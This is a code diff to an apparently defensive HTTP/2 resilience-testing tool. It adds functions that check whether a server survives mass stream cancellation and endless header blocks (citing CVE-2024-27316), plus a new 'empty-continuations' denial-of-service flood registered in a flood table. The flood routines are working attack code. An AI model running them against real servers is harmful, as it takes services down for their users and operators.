@@ -117,6 +117,17 @@ def rapid_reset(address: Address, seconds: float) -> int:
     return made
 
 
+def taken_back(address: Address, seconds: float = 3, count: int = 1_000) -> bool:
+    """Whether the other side ends a connection on which so many requests are taken back at once."""
+    encoder, cancel = hpack.Encoder(), struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
+    with speaking(address) as connection:
+        for stream in range(1, 2 * count, 2):
+            begun = frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, encoder.encode(fields()))
+            if not connection.send(begun + frame(_RESET, 0, stream, cancel)):
+                return True
+        return connection.closes(seconds)
+
+
 def continuation_flood(address: Address, seconds: float) -> int:
     """CVE-2024-27316 and its kin: a header block that never ends."""
     sent, ends = 0, time.monotonic() + seconds
@@ -128,6 +139,21 @@ def continuation_flood(address: Address, seconds: float) -> int:
             while time.monotonic() < ends and connection.send(endless):
                 sent += 1
     return sent
+
+
+def endless_headers(address: Address, size: int) -> bool:
+    """Whether the other side gives up a request after so many bytes of a header block that has not ended."""
+    part = b"".join(b"\x00\x07x-%05d\x08aaaaaaaa" % number for number in range(800))
+    with speaking(address) as connection:
+        connection.send(frame(_HEADERS, 0, 1, hpack.Encoder().encode(fields())))
+        for _ in range(size // len(part)):
+            connection.send(frame(_CONTINUATION, 0, 1, part))
+        return resets(connection.read(2)) == 1 or not connection.open
+
+
+def unfolding(size: int) -> list[tuple[str, str]]:
+    """A request whose headers have so many bytes and take few of them on the way: one of them, said again and again."""
+    return [*fields(), *[("x-a", "a" * 4000)] * (size // 4000)]
 
 
 def settings_flood(address: Address, seconds: float) -> int:
@@ -161,9 +187,16 @@ def _flood(address: Address, seconds: float, one: bytes, begin: bytes = b"") -> 
     return sent
 
 
+def empty_continuations(address: Address, seconds: float) -> int:
+    """A header block that goes on and on without a byte in it, so that no limit of its size is ever reached."""
+    begin = frame(_HEADERS, 0, 1, hpack.Encoder().encode(fields()))
+    return _flood(address, seconds, frame(_CONTINUATION, 0, 1), begin)
+
+
 FLOODS = {
     "rapid-reset": rapid_reset,
     "endless-headers": continuation_flood,
+    "empty-continuations": empty_continuations,
     "settings": settings_flood,
     "pings": ping_flood,
     "empty-frames": empty_frames,
